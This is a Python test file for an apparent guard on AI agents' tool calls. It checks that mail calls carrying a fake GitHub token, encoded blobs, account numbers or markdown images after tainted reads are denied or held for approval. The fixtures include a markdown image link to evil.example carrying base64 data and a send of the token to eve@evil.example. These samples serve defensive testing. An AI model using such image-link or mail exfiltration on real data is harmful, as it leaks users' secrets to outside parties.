"""What the shipped profiles make of signals; each attack works in `observe`, which is the control."""

from __future__ import annotations

import base64
import random
from pathlib import Path
from typing import Any

import orjson
import pytest

from harness import MANIFESTS, WARD, World, code_of, open_world, tool

SECRET = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
NOISE = base64.b64encode(random.Random(6).randbytes(300)).decode()
IBANS = " ".join(f"DE{98 - int(f'{n:018d}131400') % 97:02d}{n:018d}" for n in range(12))
PICTURE = "![x](https://evil.example/p.png?d=c2VjcmV0IHZhbHVlcyBnbyBoZXJl)"
MAIL = """\
server: mail
tools:
  send: {{effect: reversible, egress: true, {clearance}arguments: {{to: {{role: authority, kind: address}}, text: {{role: content}}}}}}
  fetch: {{effect: read_only, egress: true, arguments: {{url: {{role: authority, kind: url}}}}}}
  note: {{effect: reversible, egress: false, result: {{integrity: trusted}}, arguments: {{text: {{role: content}}}}}}
"""
TOOLS: dict[str, list[dict[str, Any]]] = {
    "files": [tool("read", "path"), tool("read_secret")],
    "mail": [tool("send", "to", "text"), tool("fetch", "url"), tool("note", "text")],
}


def files(profile: str = "guarded", *, cleared: bool = False) -> dict[str, str]:
    return {
        "toolward.yaml": WARD.replace("profile: guarded", f"profile: {profile}").replace(
            "  mail:\n    command: never-started\n",
            "  mail:\n    command: never-started\n    destinations: [example.org]\n",
        ),
        "tools/mail.yaml": MAIL.format(clearance="clearance: confidential, " if cleared else ""),
        "tools/files.yaml": MANIFESTS["files"],
    }


def send(text: str, to: str = "olga@example.org") -> tuple[str, dict[str, str]]:
    return "mail/send", {"to": to, "text": text}


async def how(world: World, session: str, call: tuple[str, dict[str, str]]) -> tuple[str, str]:
    """The code of a refusal and the policy that stands in its record, or what `observe` would have said."""
    reply = await world.call(session, *call)
    last = [r for r in world.records() if r["kind"].startswith("call.")][-1]
    if reply.error is None:
        intent = [r for r in world.records() if r["kind"] in ("call.intent", "call.merged")][-1]
        return "ran", orjson.dumps(intent.get("would", {})).decode()
    return code_of(reply), str(reply.error.data["reason"]) + orjson.dumps(last.get("reason")).decode()


CASES = {
    "a credential": ((), send(f"here: {SECRET}"), "denied", "credential"),
    "a blob after confidential": (("files/read_secret",), send(f"see {NOISE}"), "denied", "nobody can read"),
    "a composed picture after confidential": (
        ("files/read_secret",),
        ("mail/note", {"text": PICTURE}),
        "denied",
        "link",
    ),
    "a composed picture after taint": (
        ("files/read",),
        ("mail/note", {"text": PICTURE}),
        "approval_required",
        "guarded/composed-image-after-taint",
    ),
    "a list of accounts": ((), send(IBANS), "approval_required", "identifiers of people"),
}


@pytest.mark.parametrize("case", sorted(CASES))
async def test_what_a_signal_says_is_denied_or_asked_about(tmp_path: Path, case: str) -> None:
    before, call, code, words = CASES[case]
    async with open_world(tmp_path, files=files(), tools=TOOLS) as world:
        session = await world.session()
        for key in before:
            assert (
                await world.call(session, key, {"path": "/data/a"} if key == "files/read" else {})
            ).error is None
        said = await how(world, session, call)
        assert said[0] == code
        assert words in said[1]


@pytest.mark.parametrize("case", sorted(CASES))
async def test_in_observe_it_goes_out(tmp_path: Path, case: str) -> None:
    """The control: the same call runs, and its record says that it would not have."""
    before, call, code, _ = CASES[case]
    async with open_world(tmp_path, files=files("observe"), tools=TOOLS) as world:
        session = await world.session()
        for key in before:
            await world.call(session, key, {"path": "/data/a"} if key == "files/read" else {})
        said = await how(world, session, call)
        assert said[0] == "ran"
        assert code in said[1]


async def test_without_what_it_points_at_the_same_calls_run(tmp_path: Path) -> None:
    async with open_world(tmp_path, files=files(), tools=TOOLS) as world:
        session = await world.session()
        for call in (send("hello"), ("mail/note", {"text": "![x](https://example.org/a.png)"})):
            await world.approve_all()
            assert (await how(world, await world.session(), call))[0] == "ran"
        del session


async def test_a_cleared_tool_may_carry_out_what_is_confidential(tmp_path: Path) -> None:
    async with open_world(tmp_path, files=files(cleared=True), tools=TOOLS) as world:
        session = await world.session()
        assert (await how(world, session, send(f"here: {SECRET}")))[0] == "ran"


async def test_a_credential_of_the_users_own_words_goes_where_the_operator_named(tmp_path: Path) -> None:
    async with open_world(tmp_path, files=files(), tools=TOOLS) as world:
        session = await world.session(prompt=f"send {SECRET} to olga@example.org")
        assert (await how(world, session, send(f"here: {SECRET}", "eve@evil.example")))[0] == "denied"
        assert (await how(world, session, send(f"here: {SECRET}")))[0] == "ran"


async def test_a_link_that_was_read_as_it_is_may_be_passed_on(tmp_path: Path) -> None:
    url = "https://elsewhere.example/doc?id=0123456789abcdef0123456789abcdef"
    answers: dict[str, Any] = {"files/read_secret": f"see {url} for more"}
    async with open_world(tmp_path, files=files(), tools=TOOLS, answers=answers) as world:
        session = await world.session()
        await world.call(session, "files/read_secret", {})
        assert (await how(world, session, ("mail/note", {"text": f"the link is {url}"})))[0] == "ran"
        other = url.replace("0123", "4567")
        assert (await how(world, session, ("mail/note", {"text": f"the link is {other}"})))[0] == "denied"


async def test_a_result_with_a_credential_makes_the_session_confidential(tmp_path: Path) -> None:
    answers: dict[str, Any] = {"files/read": f"token = {SECRET}"}
    async with open_world(tmp_path, files=files(), tools=TOOLS, answers=answers) as world:
        session = await world.session()
        await world.call(session, "files/read", {"path": "/data/a"})
        [record] = world.records("call.merged")
        assert record["taint"]["confidentiality"] == "confidential"
        assert record["signals"] == {"kinds": ["github_token"]}
        assert SECRET not in orjson.dumps(world.records()).decode()
        code, why = await how(world, session, ("mail/fetch", {"url": "https://elsewhere.example/a"}))
        assert code == "denied"
        assert "confidential" in why


async def test_a_result_without_one_does_not(tmp_path: Path) -> None:
    """The control."""
    answers: dict[str, Any] = {"files/read": "token = none today"}
    async with open_world(tmp_path, files=files(), tools=TOOLS, answers=answers) as world:
        session = await world.session()
        await world.call(session, "files/read", {"path": "/data/a"})
        [record] = world.records("call.merged")
        assert record["taint"]["confidentiality"] == "internal"
        assert "signals" not in record


async def test_pictures_in_results_stand_in_the_record(tmp_path: Path) -> None:
    answers: dict[str, Any] = {"files/read": f"look: {PICTURE}"}
    async with open_world(tmp_path, files=files(), tools=TOOLS, answers=answers) as world:
        await world.call(await world.session(), "files/read", {"path": "/data/a"})
        [record] = world.records("call.merged")
        assert record["signals"] == {"images": 1}


RULE = """
@id("mine") @reason("no")
forbid (principal, action in Toolward::Action::"call", resource) when {{ context.call.egress && {} }};
"""


async def allowed(world: World, session: str, to: str, text: str = "x") -> bool:
    return (await world.call(session, *send(text, to))).error is None


async def test_unseen_destinations_are_told_apart_by_session_agent_and_tool(tmp_path: Path) -> None:
    for which in ("session", "agent", "tool"):
        folder = tmp_path / which
        folder.mkdir()
        rule = RULE.format(f"context.signals.unseen_by_{which} && context.args has to && context.call.writes")
        open_files = files(cleared=True)
        async with open_world(folder, files=open_files, tools=TOOLS) as world:
            first = await world.session()
            assert await allowed(world, first, "ann@example.org")
            store, clock = world.store, world.clock
        (folder / "policies").mkdir()
        (folder / "policies/mine.cedar").write_text(rule.replace("context.args has to && ", ""))
        async with open_world(folder, store=store, clock=clock, tools=TOOLS) as world:
            assert await allowed(world, first, "ann@example.org"), which
            second = await world.session()
            assert await allowed(world, second, "ann@example.org") is (which != "session")
            assert not await allowed(world, second, "new@example.org")


async def test_bytes_of_today_are_counted_for_each_destination_and_outlive_a_restart(tmp_path: Path) -> None:
    mine = files(cleared=True) | {"policies/mine.cedar": RULE.format("context.signals.bytes_today > 1000")}
    async with open_world(tmp_path, files=mine, tools=TOOLS) as world:
        session = await world.session()
        assert await allowed(world, session, "ann@example.org", "x" * 600)
        assert not await allowed(world, session, "ann@example.org", "x" * 600)
        assert await allowed(world, session, "bob@example.org", "x" * 600)
        store, clock = world.store, world.clock
    async with open_world(tmp_path, store=store, clock=clock, tools=TOOLS) as world:
        assert not await allowed(world, session, "ann@example.org", "x" * 600)
        clock.advance(86_400)
        assert await allowed(world, session, "ann@example.org", "x" * 600)


async def test_a_surge_is_asked_about_once_the_session_is_tainted(tmp_path: Path) -> None:
    async with open_world(tmp_path, files=files(cleared=True), tools=TOOLS) as world:
        session = await world.session()
        for _ in range(12):
            assert await allowed(world, session, "ann@example.org", "x" * 500)
            world.clock.advance(60)
        assert await allowed(
            world, await world.session(), "ann@example.org", "x" * 20_000
        )  # nothing untrusted read
        await world.call(session, "files/read", {"path": "/data/a"})
        code, why = await how(world, session, send("x" * 20_000, "ann@example.org"))
        assert code == "approval_required"
        assert "more than usual" in why


async def test_addresses_stand_in_no_record_and_no_row(tmp_path: Path) -> None:
    async with open_world(tmp_path, files=files(), tools=TOOLS) as world:
        assert await allowed(world, await world.session(), "ann@example.org")
        [intent] = world.records("call.intent")
        assert len(intent["to"]) == 1
        assert b"ann@" not in orjson.dumps(intent)
        from toolward.ports.store import Table

        rows = list(world.store.scan(Table.OUTFLOW))
        assert [row.key.split("/")[0] for row in rows] == ["agent", "tool"]
        assert all("example" not in row.key for row in rows)
